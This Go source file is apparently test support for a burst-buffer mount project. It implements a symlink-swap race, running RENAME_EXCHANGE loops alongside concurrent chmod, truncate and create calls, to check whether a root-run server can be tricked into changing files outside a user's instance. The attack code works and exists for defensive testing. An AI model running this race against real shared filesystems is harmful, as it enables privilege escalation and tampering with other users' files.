// Package swaprace is the attacker of the symlink-swap tests: what a hostile ordinary user
// does to a root-served burst-buffer mount to reach files outside the instance. It is test
// support, run as an ordinary user in a separate process by the mount and end-to-end
// tests; it lives here so both suites run the same attack.
//
// The attack: in a directory of their own instance the user keeps a real directory "d" and a
// symbolic link "l" pointing at a victim directory outside the instance, and exchanges the
// two names (renameat2 RENAME_EXCHANGE) in a loop, through the mount. Meanwhile other loops
// chmod, truncate and create "d/<name>" through the mount. The kernel looks "d" up while it
// is the directory; if the server then resolves the path "d/<name>" by name, as root, after
// the exchange, it follows the link out of the instance and changes the victim's files.
package swaprace

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"
)

// Names the attack uses inside its working directory, and the files it aims at in the victim
// directory.
const (
	DirName    = "d"
	LinkName   = "l"
	TargetName = "target"  // a file in the victim directory: chmod and truncate aim at it
	PlantName  = "planted" // a file the attack tries to create in the victim directory
)

// Report counts the exchanges that succeeded and the attempts of each other loop.
type Report struct {
	Exchanges, Chmods, Truncates, Creates int64
}

func (r Report) String() string {
	return fmt.Sprintf("%d exchanges, %d chmods, %d truncates, %d creates", r.Exchanges, r.Chmods, r.Truncates, r.Creates)
}

// Run attacks for the given time. work is a directory of the attacker's inside the mount where
// the swapping happens (through the mount); through, when not empty, is the same directory
// seen through a second mount of the same namespace, where the chmod/truncate/create loops
// run instead (the swap on one node, the victim operations on another). victim is the
// directory outside the instance the link points at.
func Run(work, through, victim string, d time.Duration) (Report, error) {
	if through == "" {
		through = work
	}
	dir, link := filepath.Join(work, DirName), filepath.Join(work, LinkName)
	if err := os.Mkdir(dir, 0o755); err != nil && !errors.Is(err, os.ErrExist) {
		return Report{}, err
	}
	if err := os.WriteFile(filepath.Join(dir, TargetName), []byte("the attacker's own file\n"), 0o600); err != nil {
		return Report{}, err
	}
	if err := os.Symlink(victim, link); err != nil && !errors.Is(err, os.ErrExist) {
		return Report{}, err
	}
	var (
		rep  Report
		stop atomic.Bool
		wg   sync.WaitGroup
	)
	loop := func(count *int64, op func() bool) {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for !stop.Load() {
				if op() {
					atomic.AddInt64(count, 1)
				}
			}
		}()
	}
	target := filepath.Join(through, DirName, TargetName)
	plant := filepath.Join(through, DirName, PlantName)
	loop(&rep.Exchanges, func() bool {
		return unix.Renameat2(unix.AT_FDCWD, dir, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE) == nil
	})
	loop(&rep.Chmods, func() bool { unix.Chmod(target, 0o666); return true })
	loop(&rep.Truncates, func() bool { unix.Truncate(target, 0); return true })
	// O_CREAT without O_EXCL: once "planted" exists in the attacker's directory the create
	// just opens it, so only a creation in the victim directory makes a new file.
	loop(&rep.Creates, func() bool {
		if fd, err := unix.Open(plant, unix.O_CREAT|unix.O_WRONLY, 0o644); err == nil {
			unix.Close(fd)
		}
		return true
	})
	time.Sleep(d)
	stop.Store(true)
	wg.Wait()
	return rep, nil
}

// Spec is what an attacker process attacks (see Run); test binaries receive it JSON-encoded in
// an environment variable and hand it to Main.
type Spec struct {
	Work, Through, Victim string
	Duration              time.Duration
}

// Main runs the attack of encoded (a JSON Spec) and prints the JSON Report, for a test binary
// started as the attacker; it returns the exit status.
func Main(encoded string) int {
	var spec Spec
	if err := json.Unmarshal([]byte(encoded), &spec); err != nil {
		fmt.Println("error:", err)
		return 2
	}
	rep, err := Run(spec.Work, spec.Through, spec.Victim, spec.Duration)
	if err != nil {
		fmt.Println("error:", err)
		return 1
	}
	out, _ := json.Marshal(rep)
	fmt.Println(string(out))
	return 0
}
